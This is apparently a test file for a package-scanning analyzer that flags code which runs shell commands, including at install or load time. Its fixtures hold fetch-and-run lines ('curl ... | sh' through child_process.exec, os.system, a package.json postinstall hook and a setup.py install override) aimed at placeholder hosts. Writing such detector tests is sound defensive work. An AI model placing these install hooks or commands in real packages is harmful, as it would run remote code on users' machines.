"""Facts of batches of files."""

from __future__ import annotations

import gc
import json
import pickle

from adapters.sigil.local.analysis import batches, facts_of
from adapters.sigil.local.code.facts import Behaviour, CodeFacts
from adapters.sigil.local.material import PackageFile

_JAVASCRIPT = b"require('child_process').exec('curl -s https://files.example.invalid/x | sh')\n"
_PYTHON = b"import os\nos.system('curl -s https://files.example.invalid/x | sh')\n"


def runs_shell(facts: CodeFacts) -> bool:
    return any(fact.behaviour is Behaviour.RUNS_SHELL for fact in facts.facts)


def test_files_are_read_in_their_language() -> None:
    """JavaScript, TypeScript and Python are told by their endings; what is neither has no facts."""
    files = [
        PackageFile("a.js", _JAVASCRIPT),
        PackageFile("a.mts", _JAVASCRIPT),
        PackageFile("a.py", _PYTHON),
        PackageFile("a.md", _PYTHON),
        PackageFile("a.json", b"{}"),
    ]

    found = facts_of(files)

    assert sorted(found) == ["a.js", "a.mts", "a.py"]
    assert all(runs_shell(facts) for facts in found.values())


def test_first_line_tells_the_language() -> None:
    """A file without an ending is read as what its first line says."""
    found = facts_of(
        [
            PackageFile("tool", b"#!/usr/bin/env node\n" + _JAVASCRIPT),
            PackageFile("other", b"#!/usr/bin/python3\n" + _PYTHON),
            PackageFile("third", b"#!/bin/sh\nls\n"),
        ]
    )

    assert sorted(found) == ["other", "tool"]
    assert all(runs_shell(facts) for facts in found.values())


def test_code_in_install_commands_has_facts() -> None:
    """What `node -e` runs at installation is read, and stands in package.json where the scripts do."""
    code = "require('child_process').exec('curl -s https://files.example.invalid/x | sh')"
    manifest = json.dumps({"name": "sample", "scripts": {"postinstall": f'node -e "{code}"'}}, indent=2).encode()

    facts = facts_of([PackageFile("package.json", manifest)])["package.json"]

    assert runs_shell(facts)
    assert {fact.line for fact in facts.facts} == {3}


def test_work_can_be_sent_to_another_process() -> None:
    """The function, its files and its facts survive pickling."""
    function, files = pickle.loads(pickle.dumps((facts_of, (PackageFile("a.py", _PYTHON),))))

    assert pickle.loads(pickle.dumps(function(files))) == facts_of(files)


def test_batches_are_even() -> None:
    """Batches hold every file once and about as many bytes each; there are no empty ones."""
    files = [PackageFile(str(size), b"x" * size) for size in (900, 500, 400, 10, 10, 10)]

    split = batches(files, 2)

    assert sorted(file.path for batch in split for file in batch) == sorted(file.path for file in files)
    assert sorted(sum(len(file.data) for file in batch) for batch in split) == [910, 920]
    assert len(batches(files[:1], 4)) == 1
    assert batches((), 4) == ()


def test_copies_are_told_apart_by_how_they_are_read() -> None:
    """Equal contents have the same facts, but a script of the setup and declarations of types are read in their way."""
    setup = b"import os\nclass C(install):\n    def run(self):\n        os.system('curl -s https://a.invalid/x | sh')\n"
    files = [
        *(PackageFile(path, _JAVASCRIPT) for path in ("a/x.js", "b/y.js", "b/y.d.ts")),
        *(PackageFile(path, setup) for path in ("setup.py", "a/other.py")),
    ]

    found = facts_of(files)

    assert found["a/x.js"] == found["b/y.js"]
    assert found["b/y.d.ts"] == CodeFacts()
    loads = {path: any(fact.at_load for fact in found[path].facts) for path in ("setup.py", "a/other.py")}
    assert loads == {"setup.py": True, "a/other.py": False}


def test_collecting_garbage_goes_on_after_a_batch() -> None:
    """Reading a batch leaves nothing of a file behind, and the process collects its garbage as before."""
    code = b"class Kept { hold() { this.self = this; return fetch(this.self); } }\n" * 9_000

    gc.collect()  # what tests before this one have left
    facts_of([PackageFile("a.js", code), PackageFile("b.py", _PYTHON)])

    assert gc.isenabled()
    assert not [found for found in gc.get_objects() if type(found).__name__ == "Variable"]
